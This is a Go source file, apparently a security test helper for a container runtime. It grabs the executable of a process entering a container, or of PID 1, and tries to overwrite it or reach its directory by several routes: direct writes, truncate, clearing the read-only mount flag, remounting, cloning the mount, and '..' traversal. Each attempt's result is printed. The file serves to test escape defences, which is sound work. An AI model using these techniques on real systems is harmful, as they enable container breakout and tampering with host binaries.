package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// exegrab watches /proc for a process caught before its exec (its exe
// not yet the program's: golxc's, as lxc-attach runs it), keeps its exe
// open (O_PATH: the file, and the mount it is on, stay reachable after
// the exec) and tries on it every way a container's root has to write
// the file or reach what is beside it. It prints "GRABBED LINK FS", one
// "NAME: RESULT" line an attempt ("ok" for an attempt that worked), and
// "done"; "NONE" when STOP appears first.
func exegrab(stop string) {
	self := os.Getpid()
	known := map[int]bool{}
	for _, p := range pids() {
		known[p] = true
	}
	fmt.Println("READY")
	for {
		if _, err := os.Stat(stop); err == nil {
			fmt.Println("NONE")
			return
		}
		for _, p := range pids() {
			if known[p] || p == self {
				continue
			}
			// A process is looked at again until it runs something
			// else than the container's programs: caught first as a
			// shell, it may exec what is sought a moment later.
			dir := "/proc/" + strconv.Itoa(p)
			link, err := os.Readlink(dir + "/exe")
			if err != nil || strings.HasPrefix(link, "/bin/") || strings.HasPrefix(link, "/usr/") || strings.HasPrefix(link, "/sbin/") || link == "/attacker" {
				continue
			}
			known[p] = true
			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue // exec'd meanwhile
			}
			attackExe(fd, link, "")
			// Once the process has exec'd something else or exited, the
			// file runs no more (no ETXTBSY): again.
			for i := 0; i < 600; i++ {
				if l, err := os.Readlink(dir + "/exe"); err != nil || l != link {
					break
				}
				time.Sleep(50 * time.Millisecond)
			}
			attackExe(fd, link, "after-exec/")
			fmt.Println("done")
			return
		}
	}
}

// exePID1 runs attackExe on the exe of PID 1 (golxc's init, as
// lxc-execute runs it) and prints "done".
func exePID1() {
	link, err := os.Readlink("/proc/1/exe")
	if err != nil {
		fmt.Printf("readlink /proc/1/exe: %v\n", err)
		return
	}
	fd, err := unix.Open("/proc/1/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Printf("open /proc/1/exe: %v\n", err)
		return
	}
	defer unix.Close(fd)
	attackExe(fd, link, "")
	fmt.Println("done")
}

// attackExe tries each way of writing the file open as fd (O_PATH),
// naming each attempt with prefix.
func attackExe(fd int, link, prefix string) {
	if prefix == "" {
		var sfs unix.Statfs_t
		_ = unix.Fstatfs(fd, &sfs)
		fmt.Printf("GRABBED %s %#x\n", link, sfs.Type)
	}
	say := func(name string, err error) {
		if err == nil {
			fmt.Printf("%s%s: ok\n", prefix, name)
		} else {
			fmt.Printf("%s%s: %v\n", prefix, name, err)
		}
	}
	self := "/proc/self/fd/" + strconv.Itoa(fd)
	tryWrite := func(name, path string, flags int) {
		w, err := unix.Open(path, flags|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Pwrite(w, []byte("\x7fELF-overwritten"), 0)
			unix.Close(w)
		}
		say(name, err)
	}
	tryWrite("open-wronly", self, unix.O_WRONLY)
	tryWrite("open-rdwr", self, unix.O_RDWR)
	tryWrite("open-trunc", self, unix.O_WRONLY|unix.O_TRUNC)
	say("truncate", unix.Truncate(self, 0))
	// A privileged container's root holds CAP_SYS_ADMIN in the host's
	// user namespace: clear the read-only flag of the mount the file is
	// on, directly, then on a clone of it.
	say("setattr", unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
	tryWrite("setattr-write", self, unix.O_WRONLY)
	say("remount-rw", unix.Mount("", self, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	tryWrite("remount-write", self, unix.O_WRONLY)
	clone, err := unix.OpenTree(fd, "", unix.AT_EMPTY_PATH|unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
	say("clone", err)
	if err == nil {
		say("clone-setattr", unix.MountSetattr(clone, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
		tryWrite("clone-write", "/proc/self/fd/"+strconv.Itoa(clone), unix.O_WRONLY)
		p, err := unix.Openat(clone, "..", unix.O_PATH|unix.O_CLOEXEC, 0)
		say("clone-dotdot", err)
		if err == nil {
			unix.Close(p)
		}
	}
	// Beside the file: its directory, through the descriptor and the path.
	p, err := unix.Openat(fd, "..", unix.O_PATH|unix.O_CLOEXEC, 0)
	say("dotdot", err)
	if err == nil {
		unix.Close(p)
	}
	p, err = unix.Open(self+"/..", unix.O_PATH|unix.O_CLOEXEC, 0)
	say("path-dotdot", err)
	if err == nil {
		unix.Close(p)
	}
}
